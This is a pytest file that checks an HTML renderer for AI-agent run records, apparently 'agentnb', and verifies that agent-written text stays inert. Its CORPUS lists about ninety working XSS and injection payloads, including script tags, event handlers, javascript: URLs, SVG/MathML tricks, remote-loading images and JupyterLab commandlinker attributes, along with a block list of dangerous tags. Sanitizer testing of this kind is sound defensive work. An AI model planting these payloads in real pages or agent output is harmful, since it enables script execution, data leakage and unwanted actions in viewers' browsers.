"""Nothing that an agent writes may run, load or post, wherever in a record it stands."""

from __future__ import annotations

import base64
from html.parser import HTMLParser

import msgspec
import pytest

from agentnb.record.document import (
    Change,
    Error,
    Member,
    Message,
    PlanItem,
    Request,
    RunRecord,
    Step,
    Task,
)
from agentnb.views import safe_html
from agentnb.views.html import render_html

BAD_TAGS = {"script", "iframe", "object", "embed", "form", "meta", "link", "base", "svg", "math", "input", "button"}
BAD_TAGS |= {"video", "audio", "source", "template", "textarea", "select", "frame", "frameset", "applet", "portal"}

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img/src='x'/onerror=alert(1)>",
    "<img src='https://x.example/?k=1'>",
    "<img src='//x.example/?k=1'>",
    "<img srcset='https://x.example/1 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='#' onclick=alert(1)>x</a>",
    "<a href='https://x.example' target=_blank ping='https://y.example'>x</a>",
    "<a data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>x</a>",
    "<button data-commandlinker-command='docmanager:delete-file'>x</button>",
    '<div data-commandlinker-command="apputils:reset">x</div>',
    "<iframe src='https://x.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://x.example/x.swf'></object>",
    "<embed src='https://x.example/x.swf'>",
    "<form action='https://x.example'><input name=key><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=https://x.example/v onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<meta http-equiv=refresh content='0;url=https://x.example'>",
    "<link rel=stylesheet href=https://x.example/a.css>",
    "<base href='https://x.example/'>",
    "<style>@import 'https://x.example/a.css';</style>",
    "<style>*{background:url(https://x.example)}</style>",
    "<p style='background:url(https://x.example)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<table background='https://x.example/b.png'><tr><td>1</table>",
    "<body onload=alert(1)>",
    "<body background=https://x.example>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img name=getElementById><form id=document>",
    "<p id=jp-main class='jp-Dialog'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</pre></code></div></details></div><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</summary></details><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "data:text/html,<script>alert(1)</script>",
    "![x](https://x.example/?k=secret)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://x.example)',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://x.example/"onmouseover="alert(1)>',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\x1b]8;;javascript:alert(1)\x1b\\x\x1b]8;;\x1b\\",
    "\x00<scr\x00ipt>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]


class Watch(HTMLParser):
    """Collects whatever could act or reach out, and checks that what opens is closed."""

    VOID = {"br", "hr", "img", "col", "wbr"}

    def __init__(self):
        super().__init__()
        self.faults: list[str] = []
        self.stack: list[str] = []
        self.styles = 0

    def handle_starttag(self, tag, attrs):
        if tag in BAD_TAGS:
            self.faults.append(tag)
        self.styles += tag == "style"
        for name, value in attrs:
            self.attribute(tag, name, value or "")
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag):
        if tag in self.VOID:
            return
        if not self.stack or self.stack.pop() != tag:
            self.faults.append(f"unbalanced </{tag}>")

    def attribute(self, tag, name, value):
        compact = "".join(value.split()).lower()
        if name.startswith("on") or "commandlinker" in name or name in {"id", "name", "srcset", "ping", "background"}:
            self.faults.append(name)
        if "javascript:" in compact and name not in {"alt", "title"}:
            self.faults.append(f"{name}={value}")
        if name == "src" and not compact.startswith("data:image/"):
            self.faults.append(f"src={value}")
        if name == "href" and not compact.startswith(("http://", "https://")):
            self.faults.append(f"href={value}")
        if name == "style" and ("url(" in compact or "position" in compact):
            self.faults.append(f"style={value}")
        if name == "class" and any(not part.startswith("anb") for part in value.split()):
            self.faults.append(f"class={value}")


def faults_of(page: str) -> list[str]:
    watch = Watch()
    watch.feed(page)
    watch.close()
    assert not watch.stack
    return watch.faults + (["more than one style"] if watch.styles > 1 else [])


def everywhere(text: str) -> RunRecord:
    """A record with ``text`` in every place that an agent, a tool, a model or a person can fill."""
    bundles = [{mime: text} for mime in ("text/html", "text/markdown", "text/plain", "text/latex", "image/svg+xml")]
    bundles += [{"image/png": text}, {"application/json": {"x": text}}, {text: text}, {"text/html": [text, text]}]
    outputs = [{"output_type": "display_data", "data": data, "metadata": {}} for data in bundles]
    outputs += [{"output_type": "stream", "name": name, "text": text} for name in ("stdout", "stderr", text)]
    outputs += [{"output_type": "error", "ename": text, "evalue": text, "traceback": [text]}, {"output_type": text}]
    error = Error(name=text, message=text, traceback=[text])
    step = Step(id="s", task="t", agent=text, number=1, thought=text, code=text, status="failed", outputs=outputs)
    step.changes = [Change(name=text, kind="added", before=text, after=text, scope=text, detail=[text])]
    plan = [PlanItem(agent=text, brief=text)]
    asked = Request(id="q", kind="plan", agent=text, step="s", text=text, code=text, touches=[text], plan=plan)
    asked.changes, asked.answer, asked.by = step.changes, text, text
    over = msgspec.structs.replace(asked, id="r", kind="action", status="denied", edited=True)
    step.notes, step.error = [text], error
    task = Task(id="t", agent=text, brief=text, status="failed", error=error, result={"text/html": text})
    child = Task(id="c", agent=text, brief=text * 20, status="failed", parent_step="s", error=error)
    return RunRecord(
        run_id=text,
        task=text,
        team=text,
        status="failed",
        roster=[Member(name=text, role=text, model=text, tools=[text], team=text)],
        tasks=[task, child],
        steps=[step],
        requests=[asked, over],
        messages=[Message(at=1.0, sender=text, to=text, text=text)],
        result={"text/html": text},
        result_name=text,
        reason=text,
        error=error,
        budget=text,
        cut=[text],
    )


@pytest.mark.parametrize("text", CORPUS, ids=range(len(CORPUS)))
def test_hostile_text_is_inert_wherever_it_stands(text):
    assert faults_of(render_html(everywhere(text))) == []
    assert faults_of(render_html(everywhere(text), live=True)) == []


@pytest.mark.parametrize("text", CORPUS, ids=range(len(CORPUS)))
@pytest.mark.parametrize("make", [safe_html.clean, safe_html.markdown, safe_html.terminal, safe_html.code])
def test_each_way_to_html_is_inert_by_itself(make, text):
    assert faults_of(make(text)) == []


def test_the_watch_sees_what_it_has_to_see():
    for text in ("<script>x</script>", "<p onclick=x></p>", "<a href='javascript:x'></a>", "<img src='//x'>", "</p>"):
        assert faults_of(text)


def test_what_is_harmless_stays():
    table = '<table border="1" class="dataframe"><tr><td colspan="2">1</td></tr></table><b>x</b>'
    assert '<td colspan="2">1</td>' in safe_html.clean(table)
    assert "<b>x</b>" in safe_html.clean(table)
    assert 'href="https://x.example/a?b=1"' in safe_html.clean('<a href="https://x.example/a?b=1">x</a>')
    assert 'rel="noopener nofollow"' in safe_html.markdown("[x](https://x.example)")
    assert "data:image/png;base64,AAAA" in safe_html.markdown("![x](data:image/png;base64,AAAA)")
    assert "<strong>x</strong>" in safe_html.markdown("**x**")


def test_a_picture_from_the_network_becomes_a_link():
    shown = safe_html.markdown("![chart](https://x.example/c.png)")
    assert "<img" not in shown
    assert 'href="https://x.example/c.png"' in shown


def test_svg_is_shown_as_a_picture_only():
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"
    record = RunRecord(status="done", result={"image/svg+xml": svg})
    assert base64.b64encode(svg.encode()).decode() in render_html(record)
    assert "onload" not in render_html(record)


def test_terminal_colours_become_spans():
    shown = safe_html.terminal("\x1b[1;31mred\x1b[0m \x1b[38;2;1;2;3mtrue\x1b[0m <b>")
    assert shown == '<span class="anb-bold anb-fg1">red</span> <span style="color:#010203">true</span> &lt;b&gt;'


def test_a_progress_bar_leaves_its_last_state():
    assert safe_html.terminal(" 10%\r 50%\r100%\ndone") == "100%\ndone"


def test_plain_keeps_text_and_line_breaks():
    assert safe_html.plain("a\n\n\x1b[31mb\x1b[0m\n") == "a\n\nb\n"
